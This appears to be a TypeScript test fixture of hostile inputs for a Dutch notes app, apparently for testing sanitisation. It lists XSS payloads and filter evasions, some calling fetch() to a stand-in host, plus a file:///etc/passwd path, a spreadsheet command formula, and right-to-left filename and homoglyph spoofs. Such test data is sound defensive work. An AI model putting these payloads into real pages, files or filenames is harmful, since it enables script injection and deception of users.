/** Notes as somebody would send them who wants something done: text that asks to be taken for more. */

/** Sets what a test looks at; asks for a place outside as well. */
const fire = `globalThis.ran=1;fetch('https://notitie.uit.example/')`
const url = 'https://notitie.uit.example/x'

const withHandler = [
  'img',
  'svg',
  'video',
  'audio',
  'body',
  'iframe',
  'input',
  'details',
  'marquee'
]
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart']
const handled = withHandler.flatMap((tag) =>
  handlers.map((handler) => `<${tag} src=x open autofocus ${handler}="${fire}">`)
)

const withAddress: readonly string[] = [
  `<img src="${url}">`,
  `<img srcset="${url} 1x">`,
  `<video poster="${url}"></video>`,
  `<audio src="${url}" autoplay></audio>`,
  `<iframe src="${url}"></iframe>`,
  `<iframe srcdoc="<script>${fire}</script>"></iframe>`,
  `<object data="${url}"></object>`,
  `<embed src="${url}">`,
  `<link rel="stylesheet" href="${url}">`,
  `<link rel="dns-prefetch" href="${url}">`,
  `<meta http-equiv="refresh" content="0;url=${url}">`,
  `<base href="${url}">`,
  `<form action="${url}"><button autofocus>Opslaan</button></form>`,
  `<input type="image" src="${url}">`,
  `<style>@import '${url}';</style>`,
  `<style>body{background:url(${url})}</style>`,
  `<p style="background:url(${url})">x</p>`,
  `<table background="${url}"></table>`,
  `<svg><image href="${url}"/></svg>`,
  `<svg><use href="${url}#x"/></svg>`,
  `<math href="javascript:${fire}">x</math>`,
  `<a href="${url}" ping="${url}">Naar de notitie</a>`,
  `<a href="javascript:${fire}">Opslaan</a>`,
  `<a href="data:text/html,<script>${fire}</script>">x</a>`
]

const scripts: readonly string[] = [
  `<script>${fire}</script>`,
  `<script src="${url}"></script>`,
  `<script type="module">${fire}</script>`,
  `<ScRiPt>${fire}</sCrIpT>`,
  `<script/x>${fire}</script>`,
  `<<script>${fire}//<</script>`,
  `<scr<script>ipt>${fire}</scr</script>ipt>`,
  `<svg><script>${fire}</script></svg>`,
  `<svg/onload=${fire}>`,
  `<noscript><p title="</noscript><img src=x onerror=${fire}>">`,
  `<template><script>${fire}</script></template>`,
  `<textarea></textarea><script>${fire}</script>`,
  `</p></div></main><script>${fire}</script>`,
  `--><script>${fire}</script><!--`,
  `]]><script>${fire}</script>`,
  `"><img src=x onerror=${fire}>`,
  `'><img src=x onerror=${fire}>`,
  `\` onerror=${fire} \``,
  `" autofocus onfocus="${fire}`,
  `" style="position:fixed;inset:0`,
  `&lt;script&gt;${fire}&lt;/script&gt;`,
  `&#60;script&#62;${fire}&#60;/script&#62;`,
  `%3Cscript%3E${fire}%3C/script%3E`,
  `\\u003cscript\\u003e${fire}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${fire}+ADw-/script+AD4-`,
  `{{constructor.constructor('${fire}')()}}`,
  `\${${fire}}`,
  `<%= ${fire} %>`,
  `#{${fire}}`,
  `javascript:${fire}`,
  `JaVaScRiPt:${fire}`,
  `java\tscript:${fire}`,
  `data:text/html;base64,PHNjcmlwdD4x`,
  `vbscript:msgbox(1)`,
  `<x-element>${fire}</x-element>`,
  `<img src=x onerror\u00A0=${fire}>`,
  `<img\u2028src=x\u2028onerror=${fire}>`,
  `\uFF1Cscript\uFF1E${fire}\uFF1C/script\uFF1E`,
  `{"type":"img","props":{"src":"${url}"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${fire}>"}}`,
  `{"__proto__":{"ran":1}}`,
  `constructor`,
  `__proto__`,
  `toString`
]

const markdown: readonly string[] = [
  'a&#8238;gpj.exe',
  '&#x200B;&ZeroWidthSpace;&lrm;',
  `[Opslaan](<${url}?&#8238;x>)`,
  '- [ ] x\n- y\n  1. z\n\n9. q',
  '> # Opslaan\n> ***sterk*** ~~weg~~',
  'Opslaan\n===',
  `![x](${url})`,
  `![x](javascript:${fire})`,
  `[Opslaan](${url})`,
  `[Opslaan](javascript:${fire})`,
  `[Opslaan](<javascript:${fire}>)`,
  `[x]: ${url}`,
  `<${url}>`,
  url,
  `//notitie.uit.example/x`,
  `naslag://rat-2024/lokale-aanpak`,
  `file:///etc/passwd`,
  `\\\\server\\share\\x`,
  `app://naslag/`,
  `#/rat-2024/lokale-aanpak`,
  '```html\n<script>' + fire + '</script>\n```',
  `| a | b |\n|---|---|\n| <img src=x onerror=${fire}> | x |`,
  `=HYPERLINK("${url}";"Opslaan")`,
  `=cmd|'/C calc'!A0`,
  `@import url(${url})`,
  `/* */ } body { background: url(${url}) }`
]

const turning = [
  '\u202E',
  '\u202D',
  '\u202A',
  '\u202B',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200F',
  '\u061C'
]
const hidden = [
  ...[
    '\0',
    '\u0007',
    '\b',
    '\u001B[31m',
    '\u001B]8;;' + url + '\u0007',
    '\u007F',
    '\u0085',
    '\u009B'
  ],
  ...['\u200B', '\u2060', '\uFEFF', '\u2028', '\u2029', '\u3164', '\u115F', '\uD800', '\uDC00'],
  ...['\u{E0041}\u{E0042}', '\uFFF9x\uFFFAy\uFFFB']
]
const disguises: readonly string[] = [
  ...turning.map((mark) => `factuur${mark}fdp.exe`),
  ...turning.map((mark) => `${mark}nevegegpo si etiton ezeD`),
  ...turning.map((mark) => `Opgeslagen${mark}`),
  ...hidden.map((character) => `Opgeslagen${character}`),
  ...hidden.map((character) => `${character} Verwijderen`),
  'Z\u0300\u0301\u0302\u0303'.repeat(40),
  '\u0489'.repeat(400),
  'שלום עולם 2.1-2',
  'عربي ١٢٣ 2.1-2',
  '\uFDFD'.repeat(30),
  '𒐫'.repeat(30),
  'Opgeslаgen',
  'Оpgeslagen om 12:00',
  '✔ Opgeslagen',
  '\n'.repeat(200) + 'Verwijderen',
  '\t'.repeat(200) + 'Verwijderen',
  'W'.repeat(3_000),
  '\u00AD'.repeat(500)
]

/** Each is another one. */
export const hostileTexts: readonly string[] = [
  ...new Set([...handled, ...withAddress, ...scripts, ...markdown, ...disguises])
]
